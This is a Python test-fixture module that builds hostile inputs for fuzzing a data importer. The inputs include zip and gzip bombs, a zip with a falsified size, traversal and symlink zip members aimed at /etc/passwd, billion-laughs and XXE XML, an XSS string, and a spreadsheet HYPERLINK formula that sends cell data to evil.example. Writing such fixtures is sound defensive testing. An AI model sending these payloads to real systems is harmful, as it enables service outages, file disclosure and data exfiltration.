"""What somebody hostile sends in place of a feed or an export, and a recorded answer with one value made hostile."""

import csv
import gzip
import io
import json
import struct
import zipfile
from collections.abc import Iterator
from copy import deepcopy
from pathlib import Path
from typing import Any

# A little more than any file may inflate to that is no table.
BOMB_BYTES = 101_000_000
ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{ENTITIES}]><x>&a9;</x>'.encode()
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
HTML = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
DAYS = ("0000-00-00", "99999-12-31T00:00:00Z", "9999-12-31T23:59:59-14:00")
VALUES = (HTML, FORMULA, "\0", "\ud800", "9" * 5_000, "-1e400", "NaN", "../../etc/passwd", "x" * 100_000, *DAYS)
NUMBERS = (10**30, 10**400, 1e308, -1e308, -1, float("inf"), 1.5)
JSON_VALUES = (*VALUES, *NUMBERS, None, True, [], {}, [[]], {"a": {"a": []}}, [None])


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def linked() -> bytes:
    """A zip whose members are links to a file of the machine."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in ("datapackage.json", "deployments.csv", "event.csv", "site.json"):
            entry = zipfile.ZipInfo(name)
            entry.external_attr = 0o120777 << 16
            archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def nested() -> bytes:
    """A zip in a zip in a zip, the innermost of zeros."""
    content = bytes(20_000_000)
    for depth in range(5):
        content = zipped({"datapackage.json" if depth == 0 else f"{depth}.zip": content})
    return content


def lying() -> bytes:
    """A zip that states a size of 10 bytes for a member of 101 MB."""
    content = zipped({"datapackage.json": bytes(BOMB_BYTES)})
    return content.replace(struct.pack("<I", BOMB_BYTES), struct.pack("<I", 10))


def contents() -> dict[str, bytes]:
    """Whole answers by their names."""
    return {
        "deep list": b"[" * 200_000,
        "deep object": b'{"a":' * 200_000 + b"1" + b"}" * 200_000,
        "deep list that closes": b"[" * 900 + b"]" * 900,
        "number without end": b'{"results": [{"id": ' + b"9" * 10_000 + b"}]}",
        "infinite number": b'{"count": 1e999, "results": [{"id": -Infinity, "x": NaN}]}',
        "half a letter": b'{"results": [{"id": "\\ud800", "name": "\\udfff"}]}',
        "NUL bytes": bytes(10_000),
        "NUL in a table": b"id,na\0me\n1,\0\n",
        "UTF-16": "id,name\n1,x\n".encode("utf-16"),
        "many columns": b",".join(b"c%d" % n for n in range(20_000)) + b"\n1\n",
        "quote that never closes": b'id,name\n1,"' + b"x," * 300_000,
        "laughs": LAUGHS,
        "entity of a file": OUTSIDE,
        "deep XML": b"<a>" * 50_000,
        "zip bomb": zipped({"datapackage.json": bytes(BOMB_BYTES)}),
        "zip that lies": lying(),
        "nested zips": nested(),
        "zip that climbs": zipped({"../../evil.csv": b"1", "/tmp/evil.csv": b"1", "..\\evil.json": b"{}"}),
        "zip of links": linked(),
        "gzip bomb": gzip.compress(bytes(BOMB_BYTES)),
        "half a gzip": gzip.compress(b"id,name\n" * 1_000)[:40],
        "no Parquet": b"PAR1" + bytes(100) + b"PAR1",
    }


def mutations(file: Path) -> Iterator[tuple[str, bytes]]:
    """The content of a recorded answer with one of its values after the other made hostile, with what was changed."""
    if file.suffix == ".json":
        yield from _json_mutations(json.loads(file.read_text("utf-8-sig")))
    elif file.suffix == ".csv":
        yield from _csv_mutations(file.read_text("utf-8-sig"))
    elif file.suffix in (".xml", ".txt"):
        yield from _text_mutations(file.read_text("utf-8"))


def _json_mutations(document: Any) -> Iterator[tuple[str, bytes]]:
    seen = set()
    for path in paths(document)[1:]:
        name = ".".join("*" if isinstance(step, int) else step for step in path)
        if name in seen:
            continue
        seen.add(name)
        for value in JSON_VALUES:
            yield f"{name} = {value!r:.40}", json.dumps(changed(document, path, value)).encode()


def paths(node: Any, path: tuple = ()) -> list[tuple]:
    """Where each value of a document stands, the document itself first."""
    steps = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    return [path, *(below for step, value in steps for below in paths(value, (*path, step)))]


def changed(document: Any, path: tuple, value: Any) -> Any:
    """A copy of a document with another value at one place."""
    if not path:
        return value
    copy = deepcopy(document)
    holder = copy
    for step in path[:-1]:
        holder = holder[step]
    holder[path[-1]] = value
    return copy


def _csv_mutations(text: str) -> Iterator[tuple[str, bytes]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for column, name in enumerate(rows[0]):
        for value in VALUES:
            out = io.StringIO(newline="")
            changed = [row if at != 1 else [*row[:column], value, *row[column + 1 :]] for at, row in enumerate(rows)]
            csv.writer(out).writerows(changed)
            yield f"{name} = {value!r:.40}", out.getvalue().encode("utf-8", "surrogatepass")


def _text_mutations(text: str) -> Iterator[tuple[str, bytes]]:
    """Each word between two tags, or each line of a plain text."""
    parts = [part for part in text.replace(">", ">\n").replace("<", "\n<").splitlines() if part.strip()]
    for place, part in enumerate(parts):
        if part.startswith("<"):
            continue
        for value in VALUES:
            escaped = value.replace("&", "&amp;").replace("<", "&lt;")
            changed = [*parts[:place], escaped, *parts[place + 1 :]]
            yield f"{part:.30} = {value!r:.40}", "\n".join(changed).encode("utf-8", "surrogatepass")
